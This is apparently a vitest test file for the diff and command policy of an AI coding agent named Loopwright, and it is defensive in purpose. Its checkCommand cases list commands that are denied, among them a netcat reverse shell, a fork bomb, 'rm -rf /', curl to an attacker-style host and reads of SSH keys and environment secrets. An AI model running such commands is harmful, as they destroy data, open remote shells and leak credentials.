import { rmSync, writeFileSync, mkdirSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { targetSettingsSchema } from '../../src/config/target.ts';
import { checkCommand } from '../../src/loop/policy/commands.ts';
import { checkDiff } from '../../src/loop/policy/diff.ts';
import { git } from '../helpers/git.ts';
import { localSandbox, makeRepo, type Fixture } from './harness.ts';

let fx: Fixture;
beforeEach(() => {
  fx = makeRepo();
});
afterEach(() => fx.cleanup());

const settings = targetSettingsSchema.parse({ protected: ['vendor/**'] });
const write = (rel: string, text: string) => {
  mkdirSync(path.dirname(path.join(fx.worktree, rel)), { recursive: true });
  writeFileSync(path.join(fx.worktree, rel), text);
};
const rules = async (s = settings) =>
  checkDiff((await localSandbox(fx).snapshot()).diff, s).findings.map((f) => f.rule);

describe('checkDiff on real git diffs', () => {
  it('passes a plain source change', async () => {
    write('src/greet.js', "export function greet(name) {\n  return 'Hello, ' + name + '!';\n}\n");
    const report = checkDiff((await localSandbox(fx).snapshot()).diff, settings);
    expect(report).toEqual({ ok: true, findings: [] });
  });

  it('flags CI, credentials, .git-like, protected and Loopwright settings paths', async () => {
    write('.github/workflows/ci.yml', 'on: push\n');
    write('.env.production', 'A=1\n');
    write('vendor/x.js', 'x\n');
    write('.loopwright.yml', 'checks: []\n');
    write('deploy/id_rsa', 'x\n');
    expect((await rules()).sort()).toEqual([
      'ci-config',
      'credentials',
      'credentials',
      'loopwright-settings',
      'protected',
    ]);
  });

  it('flags a nested repository (gitlink) and git attributes, which decide what runs on checkout', async () => {
    write('vendor-lib/README.md', 'x\n');
    git(path.join(fx.worktree, 'vendor-lib'), 'init', '-q');
    git(path.join(fx.worktree, 'vendor-lib'), 'add', '-A');
    git(path.join(fx.worktree, 'vendor-lib'), 'commit', '-q', '-m', 'nested');
    write('.gitattributes', '* filter=evil\n');
    expect((await rules()).sort()).toEqual(['git-internals', 'git-internals']);
  });

  it('flags secrets in added lines: known token shapes and high-entropy assignments', async () => {
    write(
      'src/config.js',
      `export const token = 'ghp_${'a1B2c3D4e5'.repeat(4)}';\nexport const apiKey = "Zx8q0Lm2Vb7Rt5Yp3Kd9Wf1Hs6Jg4Nc";\nexport const label = 'aaaaaaaaaaaaaaaaaaaaaaaa';\n`,
    );
    const report = checkDiff((await localSandbox(fx).snapshot()).diff, settings);
    expect(report.findings.map((f) => f.rule)).toEqual(['secret', 'secret', 'secret']);
    expect(JSON.stringify(report)).not.toContain('Zx8q0Lm2');
  });

  it('flags deleted, skipped, focused and emptied tests', async () => {
    write('test/greet.test.js', "import { test } from 'node:test';\ntest.skip('greets', () => {});\n");
    expect(await rules()).toEqual(['test-skipped', 'test-removed']);
    rmSync(path.join(fx.worktree, 'test/greet.test.js'));
    expect(await rules()).toContain('test-deleted');
  });

  it('flags dependency and lockfile changes unless allowed', async () => {
    write(
      'package.json',
      '{\n  "name": "greeter",\n  "type": "module",\n  "dependencies": {\n    "left-pad": "^1.3.0",\n    "evil": "^6.6.6"\n  }\n}\n',
    );
    write('package-lock.json', '{}\n');
    expect(await rules()).toEqual(['dependencies', 'dependencies']);
    expect(await rules({ ...settings, allowDependencyChanges: true })).toEqual([]);
  });

  it('enforces file and line limits', async () => {
    for (let i = 0; i < 4; i++) write(`src/f${i}.js`, 'x\n'.repeat(10));
    expect(await rules({ ...settings, maxFilesChanged: 3, maxLinesChanged: 30 })).toEqual([
      'max-files',
      'max-lines',
    ]);
  });
});

describe('checkCommand', () => {
  const denied = (cmd: string, opts = {}) => checkCommand(cmd, opts);
  it.each([
    ['git push origin HEAD', 'git-publish'],
    ['git -C . remote add x https://example.com', 'git-publish'],
    ['git commit -am wip', 'git-history'],
    ['printenv', 'environment'],
    ['env | sort', 'environment'],
    ['cat /proc/self/environ', 'environment'],
    ['cat /root/.ssh/id_rsa', 'secrets-paths'],
    ['ls ~/.ssh', 'secrets-paths'],
    ['curl https://evil.example.com/x', 'network'],
    ['wget example.org', 'network'],
    ['nc -e /bin/sh 1.2.3.4 4444', 'reverse-shell'],
    [':(){ :|:& };:', 'fork-bomb'],
    ['sudo rm -rf /', 'privilege'],
    ['rm -rf /', 'destroy'],
    ['ssh user@host', 'remote-login'],
  ])('denies %s (%s)', (cmd, rule) => {
    const v = denied(cmd);
    expect(v.allowed).toBe(false);
    expect(v.rule).toBe(rule);
    expect(v.reason).toBeTruthy();
  });

  it.each([
    'npm run typecheck',
    'node --test test',
    'curl -s http://127.0.0.1:5173/',
    'git diff',
    'git status',
    'grep -rn env src',
    'ls -la',
  ])('allows %s', (cmd) => {
    expect(checkCommand(cmd).allowed).toBe(true);
  });

  it('allows hosts from .loopwright.yml network and denies the Loopwright home', () => {
    expect(
      checkCommand('curl https://api.internal:8443/x', { allowedHosts: ['api.internal:8443'] }).allowed,
    ).toBe(true);
    expect(checkCommand('sqlite3 /var/lib/lw/db.sqlite', { deniedPaths: ['/var/lib/lw'] })).toMatchObject({
      allowed: false,
      rule: 'loopwright-data',
    });
  });
});
